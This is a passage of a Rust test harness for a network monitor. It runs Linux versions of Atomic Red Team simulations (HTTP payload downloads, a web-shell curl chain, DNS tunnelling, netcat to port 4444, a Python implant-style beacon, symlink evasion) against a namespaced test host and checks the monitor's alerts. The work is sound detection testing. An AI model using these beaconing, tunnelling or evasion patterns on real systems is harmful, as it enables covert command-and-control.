//! Attack simulations, live (root only): the seeds' Atomic Red Team tests for T1043 (commonly
//! used port) and T1571 (non-standard port, beaconing), translated to Linux and run with real
//! programs against a test host in a network namespace, while the real `monitor run` with the
//! default rule set watches. Each simulation asserts the alerts it must (and must not) raise,
//! saves its connection events as a fixture, and checks that `monitor replay` of the fixture
//! raises the same alerts as the live run did.
//!
//! Length: over 800 lines (about 1,250): one simulation table whose entries are data (the
//! programs each runs, the alerts it must and must not raise), with the harness that runs
//! them live and in replay. The next thing to move out when it grows is the replay
//! comparison (recording, per-simulation diff and `problems.txt`).
//!
//! Run all: `cargo xtask atomic` (or `sudo -E cargo test --release -p monitor --features host-tests --test atomic
//! -- --nocapture --test-threads=1`). Environment:
//! - `MONITOR_ATOMIC_ONLY`: comma-separated simulation names (see `SIMULATIONS`).
//! - `MONITOR_ATOMIC_INTERVAL`: seconds between beacons, 1..=60 (default 6).
//! - `MONITOR_ATOMIC_COUNT`: beacons per beaconing process, 3..=100 (default 10).
//!
//! Length: over 800 lines because each seed simulation is one test with its own set-up
//! (listeners, programs, expected alerts and near misses); they share one namespace and
//! monitor harness here, which is why they stay in one target.

mod common;

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use common::daemon::{MONITOR, MonitorProcess};
use common::netns::{NS_PRIVATE_V4, NS_V4, NetNsGuard, STANDARD_LISTENERS};
use common::records::{
    alerts_for, briefs, detector, events_to, has_technique, is_event, parse_lines, str_field,
    u64_field, with_descendants,
};
use common::{TempDir, high_entropy_label, python3, require_program, require_root, wait_or_kill};

// ---- settings ---------------------------------------------------------------------------

struct Settings {
    only: Option<Vec<String>>,
    interval: u64,
    count: u32,
}

fn env_number<T>(name: &str, default: T, range: (T, T)) -> T
where
    T: std::str::FromStr + PartialOrd + std::fmt::Display + Copy,
{
    match std::env::var(name) {
        Err(_) => default,
        Ok(s) => match s.trim().parse::<T>() {
            Ok(v) if v >= range.0 && v <= range.1 => v,
            _ => panic!(
                "{name}={s:?}: expected a whole number from {} to {}",
                range.0, range.1
            ),
        },
    }
}

fn settings() -> Settings {
    let only = std::env::var("MONITOR_ATOMIC_ONLY")
        .ok()
        .filter(|s| !s.trim().is_empty())
        .map(|s| s.split(',').map(|n| n.trim().to_string()).collect());
    Settings {
        only,
        interval: env_number("MONITOR_ATOMIC_INTERVAL", 6u64, (1, 60)),
        count: env_number("MONITOR_ATOMIC_COUNT", 10u32, (3, 100)),
    }
}

// ---- simulations ------------------------------------------------------------------------

/// A process a simulation started, what it is (`label`, shared by processes playing the same
/// part) and where it connects. Processes it starts in turn (a shell loop's curl) belong to
/// it too.
struct Proc {
    label: &'static str,
    pid: u32,
    dest: (String, u16),
}

/// What the monitor must (or must not) say about the processes with a label.
enum Expect {
    /// A rule alert with this technique, and the suspicion label / level if given.
    Rule {
        label: &'static str,
        technique: &'static str,
        suspicion: Option<&'static str>,
        level: Option<&'static str>,
    },
    /// A beacon alert with at least COUNT-1 connections.
    Beacon { label: &'static str },
    /// No alert of any kind.
    Quiet { label: &'static str },
    /// No alert with this technique on this destination port (other alerts allowed).
    NoRuleOnPort {
        label: &'static str,
        technique: &'static str,
        port: u16,
    },
}

struct Simulation {
    name: &'static str,
    title: &'static str,
    /// Runs for about COUNT x INTERVAL seconds; started in its own thread.
    long: bool,
    run: fn(&Ctx) -> Vec<Proc>,
    expect: &'static [Expect],
}

const SIMULATIONS: &[Simulation] = &[
    Simulation {
        name: "t1043-python-443",
        title: "T1043 test 1: script interpreter C2 over TCP 443 (python3 socket)",
        long: false,
        run: sim_python_443,
        expect: &[Expect::Rule {
            label: "python3",
            technique: "T1043",
            suspicion: Some("ScriptInterpreter"),
            level: None,
        }],
    },
    Simulation {
        name: "t1043-symlink-evasion",
        title: "T1043 test 1 through a symlink named firefox: the kernel runs python3, the rule must see python3",
        long: false,
        run: sim_symlink_evasion,
        expect: &[Expect::Rule {
            label: "python3",
            technique: "T1043",
            suspicion: Some("ScriptInterpreter"),
            level: None,
        }],
    },
    Simulation {
        name: "t1043-http-80",
        title: "T1043 test 2: HTTP download over port 80 (curl, wget)",
        long: false,
        run: sim_http_80,
        expect: &[
            Expect::Rule {
                label: "curl",
                technique: "T1043",
                suspicion: Some("LOLBin"),
                level: None,
            },
            Expect::Rule {
                label: "wget",
                technique: "T1043",
                suspicion: Some("LOLBin"),
                level: None,
            },
        ],
    },
    Simulation {
        name: "t1043-dns-tunnel",
        title: "T1043 test 3: DNS tunnelling, 10 long high-entropy names over UDP 53 (dig, nslookup)",
        long: false,
        run: sim_dns_tunnel,
        expect: &[
            Expect::Rule {
                label: "dig",
                technique: "T1043",
                suspicion: None,
                level: None,
            },
            Expect::Rule {
                label: "nslookup",
                technique: "T1043",
                suspicion: None,
                level: None,
            },
        ],
    },
    Simulation {
        name: "t1043-resolver-lookup",
        title: "T1043 DNS clause: lookups through the host's configured nameserver (python3, curl: quiet on 53; nslookup: alert)",
        long: false,
        run: sim_resolver_lookup,
        expect: &[
            Expect::Quiet { label: "python3" },
            Expect::NoRuleOnPort {
                label: "curl",
                technique: "T1043",
                port: 53,
            },
            Expect::Rule {
                label: "nslookup",
                technique: "T1043",
                suspicion: Some("LOLBin"),
                level: None,
            },
        ],
    },
    Simulation {
        name: "t1505-web-shell",
        title: "T1505.003: a server named nginx runs a shell that runs curl (alert); the same under a server named appserver (no T1505 alert)",
        long: false,
        run: sim_web_shell,
        expect: &[
            Expect::Rule {
                label: "under-nginx",
                technique: "T1505.003",
                suspicion: None,
                level: Some("high"),
            },
            Expect::NoRuleOnPort {
                label: "under-appserver",
                technique: "T1505.003",
                port: 80,
            },
        ],
    },
    Simulation {
        name: "t1043-wget-https",
        title: "T1043 test 4: HTTPS download over port 443 (wget)",
        long: false,
        run: sim_wget_https,
        expect: &[Expect::Rule {
            label: "wget",
            technique: "T1043",
            suspicion: None,
            level: None,
        }],
    },
    Simulation {
        name: "t1571-netcat-4444",
        title: "T1571 test 1: netcat to non-standard port 4444 (nc.openbsd, ncat)",
        long: false,
        run: sim_netcat_4444,
        expect: &[
            Expect::Rule {
                label: "nc",
                technique: "T1571",
                suspicion: None,
                level: Some("high"),
            },
            Expect::Rule {
                label: "ncat",
                technique: "T1571",
                suspicion: None,
                level: Some("high"),
            },
        ],
    },
    Simulation {
        name: "beacon-8088",
        title: "T1571 test 2: HTTP beacon to port 8088 every INTERVAL s (curl in a shell loop, python3)",
        long: true,
        run: sim_beacon_8088,
        expect: &[
            Expect::Rule {
                label: "curl",
                technique: "T1571",
                suspicion: None,
                level: Some("high"),
            },
            Expect::Rule {
                label: "python3",
                technique: "T1571",
                suspicion: None,
                level: Some("high"),
            },
            Expect::Beacon { label: "curl" },
            Expect::Beacon { label: "python3" },
        ],
    },
    Simulation {
        name: "beacon-9001",
        title: "T1571 test 4: beacon at a regular interval to port 9001 (python3)",
        long: true,
        run: sim_beacon_9001,
        expect: &[Expect::Beacon { label: "python3" }],
    },
    Simulation {
        name: "negative-loopback",
        title: "Negative: the same programs to loopback 127.0.0.1:8088 and :4444",
        long: false,
        run: sim_negative_loopback,
        expect: &[
            Expect::Quiet { label: "curl" },
            Expect::Quiet { label: "python3" },
            Expect::Quiet { label: "nc" },
        ],
    },
    Simulation {
        name: "negative-rfc1918",
        title: "Negative: curl and nc to an RFC 1918 address (10.255.0.7:8088, :4444)",
        long: false,
        run: sim_negative_rfc1918,
        expect: &[
            Expect::Quiet { label: "curl" },
            Expect::Quiet { label: "nc" },
        ],
    },
    Simulation {
        name: "negative-browser",
        title: "Negative: a browser (a curl copy named firefox) over 443 and 80",
        long: false,
        run: sim_negative_browser,
        expect: &[Expect::Quiet { label: "firefox" }],
    },
];

/// What the simulations run with.
struct Ctx {
    settings: Settings,
    dir: TempDir,
    curl: PathBuf,
    wget: PathBuf,
    dig: PathBuf,
    nslookup: PathBuf,
    nc: PathBuf,
    ncat: PathBuf,
    python3: PathBuf,
    sh: PathBuf,
    beacon_py: PathBuf,
    firefox: PathBuf,
    /// A symlink named firefox to python3.
    firefox_link: PathBuf,
    /// A resolv.conf naming the test host as the nameserver: bind-mounted over
    /// /etc/resolv.conf for the resolver simulation, and the monitor's `resolv_conf_path`.
    resolv_conf: PathBuf,
    unshare: PathBuf,
}

impl Ctx {
    fn new(settings: Settings) -> Ctx {
        let dir = TempDir::new("atomic");
        let beacon_py = dir.join("beacon.py");
        std::fs::write(&beacon_py, BEACON_PY).expect("write beacon.py");
        let curl = require_program(&["/usr/bin/curl"], "curl");
        // A browser, as far as a rule can tell: same code as curl, named like Firefox.
        let browser_dir = dir.join("firefox-esr");
        std::fs::create_dir_all(&browser_dir).expect("create the browser dir");
        let firefox = browser_dir.join("firefox");
        std::fs::copy(&curl, &firefox).expect("copy curl as firefox");
        let link_dir = dir.join("evasion");
        std::fs::create_dir_all(&link_dir).expect("create the symlink dir");
        let firefox_link = link_dir.join("firefox");
        let python3 = python3();
        std::os::unix::fs::symlink(&python3, &firefox_link).expect("symlink firefox -> python3");
        let resolv_conf = dir.join("resolv.conf");
        std::fs::write(
            &resolv_conf,
            format!("nameserver {NS_V4}\noptions timeout:2 attempts:1\n"),
        )
        .expect("write resolv.conf");
        Ctx {
            resolv_conf,
            unshare: require_program(&["/usr/bin/unshare"], "util-linux"),
            settings,
            curl,
            wget: require_program(&["/usr/bin/wget"], "wget"),
            dig: require_program(&["/usr/bin/dig"], "dnsutils"),
            nslookup: require_program(&["/usr/bin/nslookup"], "dnsutils"),
            nc: require_program(&["/usr/bin/nc.openbsd"], "netcat-openbsd"),
            ncat: require_program(&["/usr/bin/ncat"], "ncat"),
            python3,
            sh: require_program(&["/bin/sh"], "dash"),
            beacon_py,
            firefox,
            firefox_link,
            dir,
        }
    }

    fn out(&self, name: &str) -> String {
        self.dir.join(name).display().to_string()
    }

    /// Runs `program ARGS` to completion (at most `limit`); returns its pid.
    fn run(&self, program: &Path, args: &[&str], limit: Duration) -> u32 {
        let mut child = Command::new(program)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("start {}: {e}", program.display()));
        let pid = child.id();
        if wait_or_kill(&mut child, limit).is_none() {
            eprintln!(
                "atomic: {} {args:?} ran longer than {limit:?} and was killed",
                program.display()
            );
        }
        pid
    }

    fn quick(&self, program: &Path, args: &[&str]) -> u32 {
        self.run(program, args, Duration::from_secs(20))
    }

    fn beacon_limit(&self) -> Duration {
        Duration::from_secs(self.settings.interval * u64::from(self.settings.count) + 60)
    }
}

fn proc(label: &'static str, pid: u32, ip: &str, port: u16) -> Proc {
    Proc {
        label,
        pid,
        dest: (ip.to_string(), port),
    }
}

/// A beacon: COUNT HTTP GETs to URL, one every INTERVAL seconds on a fixed schedule (so the
/// interval does not drift by the request time), as an implant's sleep loop does.
const BEACON_PY: &str = r#"import sys, time, urllib.request
url, count, interval = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
start = time.monotonic()
for i in range(count):
    delay = start + i * interval - time.monotonic()
    if delay > 0:
        time.sleep(delay)
    try:
        urllib.request.urlopen(url, timeout=5).read()
    except OSError as e:
        print("beacon", i, "failed:", e, file=sys.stderr)
"#;

fn sim_python_443(c: &Ctx) -> Vec<Proc> {
    // Like PowerShell's TcpClient: a raw TCP session from the interpreter, no HTTP client.
    let script = format!(
        "import socket; s = socket.create_connection(('{NS_V4}', 443), timeout=5); \
         s.sendall(b'\\x16\\x03\\x01'); s.close()"
    );
    vec![proc(
        "python3",
        c.quick(&c.python3, &["-c", &script]),
        NS_V4,
        443,
    )]
}

/// Test 1 again, started through a symlink whose name a rule excludes (`.../firefox`): the
/// executable is python3 whatever the path used to start it, so the alert must stay.
/// Started from a shell, so it is not one T1043 group with test 1's python3 (the rule
/// groups by image, user and parent, and would count this one into test 1's window).
fn sim_symlink_evasion(c: &Ctx) -> Vec<Proc> {
    let cmd = format!(
        "{link} -c \"import socket; s = socket.create_connection(('{NS_V4}', 443), timeout=5); s.close()\"; exit $?",
        link = c.firefox_link.display()
    );
    vec![proc("python3", c.quick(&c.sh, &["-c", &cmd]), NS_V4, 443)]
}

fn sim_http_80(c: &Ctx) -> Vec<Proc> {
    let url = format!("http://{NS_V4}/payload.bin");
    let curl_out = c.out("curl-payload.bin");
    let wget_out = c.out("wget-payload.bin");
    vec![
        proc(
            "curl",
            c.quick(&c.curl, &["-s", "--max-time", "5", "-o", &curl_out, &url]),
            NS_V4,
            80,
        ),
        proc(
            "wget",
            c.quick(
                &c.wget,
                &["-q", "-T", "5", "-t", "1", "-O", &wget_out, &url],
            ),
            NS_V4,
            80,
        ),
    ]
}

fn sim_dns_tunnel(c: &Ctx) -> Vec<Proc> {
    let names: Vec<String> = (0..10u64)
        .map(|i| {
            format!(
                "{}.{}.t.tunnel.example",
                high_entropy_label(52, i),
                high_entropy_label(40, i + 100)
            )
        })
        .collect();
    // dig: all ten names from one process within a second, to one destination: the
    // kernel's UDP flood control reports the first and counts the rest, and that first
    // event must be enough for the alert.
    let server = format!("@{NS_V4}");
    let mut dig_args: Vec<&str> = vec![&server, "+tries=1", "+time=2"];
    dig_args.extend(names.iter().map(String::as_str));
    let mut procs = vec![proc("dig", c.quick(&c.dig, &dig_args), NS_V4, 53)];
    // nslookup: a few of the names, one process each.
    for name in names.iter().take(3) {
        procs.push(proc(
            "nslookup",
            c.quick(&c.nslookup, &["-timeout=2", "-retry=1", name, NS_V4]),
            NS_V4,
            53,
        ));
    }
    procs
}

/// A web shell, as the kernel sees one: a server process (a copy of python3 installed as
/// `.../sbin/nginx`) forks a shell that runs (execs) curl. The rule reads the ancestry the monitor
/// tracked from exec and fork events; the same chain under a server named `appserver` is
/// the near miss.
fn sim_web_shell(c: &Ctx) -> Vec<Proc> {
    let run_under = |server: &str| -> u32 {
        let dir = c.dir.join(&format!("srv-{server}/sbin"));
        std::fs::create_dir_all(&dir).expect("create the server dir");
        let exe = dir.join(server);
        if !exe.exists() {
            std::fs::copy(&c.python3, &exe).expect("copy python3 as the server");
        }
        // `exec`: the shell becomes curl, so curl's parent is the server (the check finds a
        // process's connections through parent pids in the records).
        let cmd = format!(
            "exec {curl} -s -o /dev/null --max-time 5 http://{NS_V4}/stage2",
            curl = c.curl.display()
        );
        let script = "import subprocess, sys; subprocess.run(['/bin/sh', '-c', sys.argv[1]])";
        c.quick(&exe, &["-c", script, &cmd])
    };
    vec![
        proc("under-nginx", run_under("nginx"), NS_V4, 80),
        proc("under-appserver", run_under("appserver"), NS_V4, 80),
    ]
}

/// A program resolving a name through the host's configured nameserver (the test host,
/// through resolv.conf bind-mounted in a private mount namespace) is not DNS used as a
/// channel; nslookup asking the same server is (seed test 3).
fn sim_resolver_lookup(c: &Ctx) -> Vec<Proc> {
    let in_ns = |cmd: &str| -> u32 {
        let script = format!(
            "mount --bind {conf} /etc/resolv.conf && {cmd}; exit $?",
            conf = c.resolv_conf.display()
        );
        c.quick(&c.unshare, &["-m", "sh", "-c", &script])
    };
    let py = format!(
        "{py} -c \"import socket; socket.getaddrinfo('c2.example', 80, type=socket.SOCK_STREAM)\"",
        py = c.python3.display()
    );
    let curl = format!(
        "{curl} -s -o /dev/null --max-time 5 http://c2.example/",
        curl = c.curl.display()
    );
    let nslookup = format!(
        "{ns} -timeout=2 -retry=1 c2.example",
        ns = c.nslookup.display()
    );
    vec![
        proc("python3", in_ns(&py), NS_V4, 53),
        proc("curl", in_ns(&curl), NS_V4, 53),
        proc("nslookup", in_ns(&nslookup), NS_V4, 53),
    ]
}

/// From a shell, so it is not one T1043 group with test 2's wget (same image, user and
/// parent otherwise).
fn sim_wget_https(c: &Ctx) -> Vec<Proc> {
    let url = format!("https://{NS_V4}/payload.bin");
    let out = c.out("wget-https-payload.bin");
    let cmd = format!(
        "{wget} -q --no-check-certificate -T 5 -t 1 -O {out} {url}; exit $?",
        wget = c.wget.display()
    );
    vec![proc("wget", c.quick(&c.sh, &["-c", &cmd]), NS_V4, 443)]
}

fn sim_netcat_4444(c: &Ctx) -> Vec<Proc> {
    vec![
        proc(
            "nc",
            c.quick(&c.nc, &["-z", "-w", "3", NS_V4, "4444"]),
            NS_V4,
            4444,
        ),
        proc(
            "ncat",
            c.quick(&c.ncat, &["-z", "-w", "3", NS_V4, "4444"]),
            NS_V4,
            4444,
        ),
    ]
}

fn sim_beacon_8088(c: &Ctx) -> Vec<Proc> {
    let (count, interval) = (c.settings.count, c.settings.interval);
    let url = format!("http://{NS_V4}:8088/beacon");
    // curl: a shell loop, as the Atomic test does it; each beacon is a new curl process.
    let curl_loop = format!(
        "i=0; while [ \"$i\" -lt {count} ]; do \
           {curl} -s -o /dev/null --max-time 5 {url}; \
           i=$((i+1)); if [ \"$i\" -lt {count} ]; then sleep {interval}; fi; \
         done",
        curl = c.curl.display()
    );
    let (curl_pid, py_pid) = std::thread::scope(|s| {
        let curl = s.spawn(|| c.run(&c.sh, &["-c", &curl_loop], c.beacon_limit()));
        let py = s.spawn(|| {
            c.run(
                &c.python3,
                &[
                    &c.beacon_py.display().to_string(),
                    &url,
                    &count.to_string(),
                    &interval.to_string(),
                ],
                c.beacon_limit(),
            )
        });
        (curl.join().unwrap(), py.join().unwrap())
    });
    vec![
        proc("curl", curl_pid, NS_V4, 8088),
        proc("python3", py_pid, NS_V4, 8088),
    ]
}

fn sim_beacon_9001(c: &Ctx) -> Vec<Proc> {
    let (count, interval) = (c.settings.count, c.settings.interval);
    // Started from a shell, so it is not one group with the 8088 python3 beacon (grouping
    // rules key on the image, the user and the parent).
    let cmd = format!(
        "{py} {script} http://{NS_V4}:9001/beacon {count} {interval}; exit $?",
        py = c.python3.display(),
        script = c.beacon_py.display()
    );
    vec![proc(
        "python3",
        c.run(&c.sh, &["-c", &cmd], c.beacon_limit()),
        NS_V4,
        9001,
    )]
}

fn sim_negative_loopback(c: &Ctx) -> Vec<Proc> {
    let script =
        "import socket; s = socket.create_connection(('127.0.0.1', 4444), timeout=5); s.close()";
    vec![
        proc(
            "curl",
            c.quick(
                &c.curl,
                &[
                    "-s",
                    "-o",
                    "/dev/null",
                    "--max-time",
                    "5",
                    "http://127.0.0.1:8088/beacon",
                ],
            ),
            "127.0.0.1",
            8088,
        ),
        proc(
            "python3",
            c.quick(&c.python3, &["-c", script]),
            "127.0.0.1",
            4444,
        ),
        proc(
            "nc",
            c.quick(&c.nc, &["-z", "-w", "3", "127.0.0.1", "4444"]),
            "127.0.0.1",
            4444,
        ),
    ]
}

fn sim_negative_rfc1918(c: &Ctx) -> Vec<Proc> {
    let url = format!("http://{NS_PRIVATE_V4}:8088/beacon");
    vec![
        proc(
            "curl",
            c.quick(&c.curl, &["-s", "-o", "/dev/null", "--max-time", "5", &url]),
            NS_PRIVATE_V4,
            8088,
        ),
        proc(
            "nc",
            c.quick(&c.nc, &["-z", "-w", "3", NS_PRIVATE_V4, "4444"]),
            NS_PRIVATE_V4,
            4444,
        ),
    ]
}

fn sim_negative_browser(c: &Ctx) -> Vec<Proc> {
    let https = format!("https://{NS_V4}/");
    let http = format!("http://{NS_V4}/");
    vec![
        proc(
            "firefox",
            c.quick(
                &c.firefox,
                &["-sk", "-o", "/dev/null", "--max-time", "5", &https],
            ),
            NS_V4,
            443,
        ),
        proc(
            "firefox",
            c.quick(
                &c.firefox,
                &["-s", "-o", "/dev/null", "--max-time", "5", &http],
            ),
            NS_V4,
            80,
        ),
    ]
}

// ---- checking ---------------------------------------------------------------------------

/// One live record and the exact line the monitor wrote for it.
struct Line {
    text: String,
    value: Value,
}

fn read_lines(path: &Path) -> Vec<Line> {
    let text =
        std::fs::read_to_string(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()));
    let values = parse_lines(&text, &path.display().to_string());
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .zip(values)
        .map(|(t, value)| Line {
            text: t.to_string(),
            value,
        })
        .collect()
}

/// What identifies an alert across a live run and a replay: rule, process, destination and
/// detector (timestamps differ: live windows close by the wall clock, replay at the end).
fn alert_key(a: &Value) -> String {
    format!(
        "{} pid={} -> {}:{} detector={}",
        str_field(a, "rule.id").unwrap_or("-"),
        u64_field(a, "process.pid").unwrap_or(0),
        str_field(a, "destination.ip").unwrap_or("-"),
        u64_field(a, "destination.port").unwrap_or(0),
        detector(a).unwrap_or("-"),
    )
}

/// What the record interface promises of every alert, checked on each one the simulations raise.
fn alert_shape_problems(a: &Value) -> Vec<String> {
    let mut out = Vec::new();
    let mut need = |ok: bool, what: &str| {
        if !ok {
            out.push(format!("malformed alert ({what}): {a}"));
        }
    };
    need(
        str_field(a, "rule.id").is_some_and(|s| !s.is_empty()),
        "rule.id",
    );
    need(
        str_field(a, "rule.name").is_some_and(|s| !s.is_empty()),
        "rule.name",
    );
    need(
        str_field(a, "threat.framework") == Some("MITRE ATT&CK"),
        "threat.framework",
    );
    need(
        common::records::field(a, "threat.technique.id")
            .and_then(Value::as_array)
            .is_some_and(|t| !t.is_empty()),
        "threat.technique.id array",
    );
    let severity = match str_field(a, "monitor.level") {
        Some("informational") => Some(0),
        Some("low") => Some(21),
        Some("medium") => Some(47),
        Some("high") => Some(73),
        Some("critical") => Some(99),
        _ => None,
    };
    need(severity.is_some(), "monitor.level");
    need(
        severity.is_some() && u64_field(a, "event.severity") == severity,
        "event.severity matching monitor.level",
    );
    match detector(a) {
        Some("rule") => {}
        Some("beacon") => {
            for f in [
                "connections",
                "median_interval_s",
                "mean_interval_s",
                "jitter",
                "score",
            ] {
                need(
                    common::records::field(a, &format!("monitor.beacon.{f}")).is_some(),
                    &format!("monitor.beacon.{f}"),
                );
            }
        }
        _ => need(false, "monitor.detector rule|beacon"),
    }
    out
}

fn fixture_dir() -> PathBuf {
    // <target>/tmp -> <target>/atomic-fixtures
    Path::new(env!("CARGO_TARGET_TMPDIR"))
        .parent()
        .expect("CARGO_TARGET_TMPDIR has a parent")
        .join("atomic-fixtures")
}

/// Runs `monitor replay FILE` with the default rules; returns its alerts.
fn replay(fixture: &Path) -> Result<Vec<Value>, String> {
    let out = Command::new(MONITOR)
        .arg("replay")
        .arg(fixture)
        .output()
        .map_err(|e| format!("cannot run {MONITOR} replay: {e}"))?;
    if !out.status.success() {
        return Err(format!(
            "monitor replay {} failed ({}): {}",
            fixture.display(),
            out.status,
            String::from_utf8_lossy(&out.stderr)
        ));
    }
    let text = String::from_utf8_lossy(&out.stdout);
    Ok(parse_lines(&text, "monitor replay stdout")
        .into_iter()
        .filter(common::records::is_alert)
        .collect())
}

struct Verdict {
    name: &'static str,
    problems: Vec<String>,
    report: String,
}

fn check_simulation(
    sim: &Simulation,
    procs: &[Proc],
    lines: &[Line],
    values: &[Value],
    replayed: &Result<Vec<Value>, String>,
    settings: &Settings,
) -> Verdict {
    let mut problems = Vec::new();
    let mut report = String::new();
    let roots: Vec<u32> = procs.iter().map(|p| p.pid).collect();
    let pids = with_descendants(values, &roots);
    let label_pids = |label: &str| -> BTreeSet<u32> {
        let roots: Vec<u32> = procs
            .iter()
            .filter(|p| p.label == label)
            .map(|p| p.pid)
            .collect();
        with_descendants(values, &roots)
    };

    // Capture first: a missing alert means nothing if the connection was not seen.
    for p in procs {
        let own = with_descendants(values, &[p.pid]);
        let seen = own
            .iter()
            .any(|&pid| !events_to(values, pid, &p.dest.0, p.dest.1).is_empty());
        if !seen {
            problems.push(format!(
                "{} (pid {}): no connection event to {}:{}",
                p.label, p.pid, p.dest.0, p.dest.1
            ));
        }
    }

    let alerts = alerts_for(values, &pids);
    for a in &alerts {
        problems.extend(alert_shape_problems(a));
    }
    report.push_str(&format!(
        "  pids {pids:?}\n  alerts:\n{}\n",
        if alerts.is_empty() {
            "    (none)".to_string()
        } else {
            briefs(alerts.iter().copied())
        }
    ));
    for e in sim.expect {
        match e {
            Expect::Rule {
                label,
                technique,
                suspicion,
                level,
            } => {
                let set = label_pids(label);
                let ok = alerts.iter().any(|a| {
                    common::records::pid(a).is_some_and(|p| set.contains(&p))
                        && detector(a) == Some("rule")
                        && has_technique(a, technique)
                        && suspicion.is_none_or(|s| str_field(a, "labels.suspicion") == Some(s))
                        && level.is_none_or(|l| str_field(a, "monitor.level") == Some(l))
                });
                if !ok {
                    problems.push(format!(
                        "{label}: no rule alert with {technique}{}{}",
                        suspicion.map_or(String::new(), |s| format!(", labels.suspicion {s}")),
                        level.map_or(String::new(), |l| format!(", monitor.level {l}")),
                    ));
                }
            }
            Expect::Beacon { label } => {
                let set = label_pids(label);
                let want = u64::from(settings.count) - 1;
                let best = alerts
                    .iter()
                    .filter(|a| {
                        common::records::pid(a).is_some_and(|p| set.contains(&p))
                            && detector(a) == Some("beacon")
                    })
                    .filter_map(|a| u64_field(a, "monitor.beacon.connections"))
                    .max();
                match best {
                    Some(n) if n >= want => {}
                    Some(n) => problems.push(format!(
                        "{label}: beacon alert counts {n} connections, expected at least {want}"
                    )),
                    None => problems.push(format!("{label}: no beacon alert")),
                }
            }
            Expect::NoRuleOnPort {
                label,
                technique,
                port,
            } => {
                let set = label_pids(label);
                let noisy: Vec<&Value> = alerts
                    .iter()
                    .copied()
                    .filter(|a| {
                        common::records::pid(a).is_some_and(|p| set.contains(&p))
                            && has_technique(a, technique)
                            && u64_field(a, "destination.port") == Some(u64::from(*port))
                    })
                    .collect();
                if !noisy.is_empty() {
                    problems.push(format!(
                        "{label}: expected no {technique} alert on port {port}, got:\n{}",
                        briefs(noisy)
                    ));
                }
            }
            Expect::Quiet { label } => {
                let set = label_pids(label);
                let noisy: Vec<&Value> = alerts
                    .iter()
                    .copied()
                    .filter(|a| common::records::pid(a).is_some_and(|p| set.contains(&p)))
                    .collect();
                if !noisy.is_empty() {
                    problems.push(format!(
                        "{label}: expected no alert, got:\n{}",
                        briefs(noisy)
                    ));
                }
            }
        }
    }

    // The fixture: exactly the lines the monitor wrote for these processes' connections.
    let dir = fixture_dir();
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("create {}: {e}", dir.display()));
    let fixture = dir.join(format!("{}.jsonl", sim.name));
    let mut body = String::new();
    let mut n_events = 0;
    for l in lines {
        if is_event(&l.value) && common::records::pid(&l.value).is_some_and(|p| pids.contains(&p)) {
            body.push_str(&l.text);
            body.push('\n');
            n_events += 1;
        }
    }
    std::fs::write(&fixture, &body).unwrap_or_else(|e| panic!("write {}: {e}", fixture.display()));
    report.push_str(&format!(
        "  fixture {} ({n_events} events)\n",
        fixture.display()
    ));

    // Replay of the whole recording gives the same alerts as the live run for these
    // processes. The whole one, not this simulation's fixture: the beacon detector keys by
    // executable and user, so the live run's other simulations (a curl to loopback :8088 in
    // the negative cases) share a series with this one's check-ins.
    match replayed {
        Err(e) => problems.push(e.clone()),
        Ok(replayed) => {
            let live: BTreeSet<String> = alerts.iter().map(|a| alert_key(a)).collect();
            let again: BTreeSet<String> = alerts_for(replayed, &pids)
                .into_iter()
                .map(alert_key)
                .collect();
            if live != again {
                problems.push(format!(
                    "replay of the recording differs from the live run:\n  live only: {:?}\n  replay only: {:?}",
                    live.difference(&again).collect::<Vec<_>>(),
                    again.difference(&live).collect::<Vec<_>>()
                ));
            }
        }
    }
    Verdict {
        name: sim.name,
        problems,
        report,
    }
}

// ---- the test ---------------------------------------------------------------------------

#[test]
fn attack_simulations_raise_the_expected_alerts_live_and_in_replay() {
    require_root("atomic");
    let settings = settings();
    let selected: Vec<&Simulation> = match &settings.only {
        None => SIMULATIONS.iter().collect(),
        Some(names) => names
            .iter()
            .map(|n| {
                SIMULATIONS.iter().find(|s| s.name == n).unwrap_or_else(|| {
                    panic!(
                        "MONITOR_ATOMIC_ONLY: no simulation named {n:?}; the simulations: {}",
                        SIMULATIONS
                            .iter()
                            .map(|s| s.name)
                            .collect::<Vec<_>>()
                            .join(", ")
                    )
                })
            })
            .collect(),
    };
    println!(
        "atomic: {} simulation(s), beacons: {} x every {} s",
        selected.len(),
        settings.count,
        settings.interval
    );

    let mut ns = NetNsGuard::create();
    ns.start_listeners(STANDARD_LISTENERS);
    // Loopback listeners for the negative cases (if something else already listens there,
    // the connect still happens, which is all the monitor sees).
    for port in [8088u16, 4444] {
        let addr: SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
        if let Err(e) = common::serve_http_on(addr) {
            eprintln!("atomic: 127.0.0.1:{port} not bound by the test ({e}); connecting anyway");
        }
    }
    let ctx = Ctx::new(settings);

    // The default rule set: no --rules. The config only points the nameserver check at the
    // resolver simulation's resolv.conf.
    let config = ctx.dir.join("monitor.toml");
    std::fs::write(
        &config,
        format!(
            "[process]\nresolv_conf_path = \"{}\"\n",
            ctx.resolv_conf.display()
        ),
    )
    .expect("write monitor.toml");
    let mut monitor = MonitorProcess::start(&[
        "--events".to_string(),
        "--config".to_string(),
        config.display().to_string(),
    ]);
    let started = Instant::now();

    // Long simulations (beacons) run in their own threads while the short ones run one
    // after the other.
    let results: Vec<(&Simulation, Vec<Proc>)> = std::thread::scope(|s| {
        let long: Vec<_> = selected
            .iter()
            .filter(|sim| sim.long)
            .map(|sim| {
                let ctx = &ctx;
                (*sim, s.spawn(move || (sim.run)(ctx)))
            })
            .collect();
        let mut done: Vec<(&Simulation, Vec<Proc>)> = selected
            .iter()
            .filter(|sim| !sim.long)
            .map(|sim| {
                println!("atomic: running {} ({})", sim.name, sim.title);
                (*sim, (sim.run)(&ctx))
            })
            .collect();
        for (sim, h) in long {
            done.push((sim, h.join().expect("simulation thread")));
        }
        done
    });
    println!(
        "atomic: simulations finished after {:.0} s",
        started.elapsed().as_secs_f64()
    );

    // Every connection has reached the output before the monitor stops (it does not read
    // the ring buffer after detaching).
    let wanted: Vec<(u32, String, u16)> = results
        .iter()
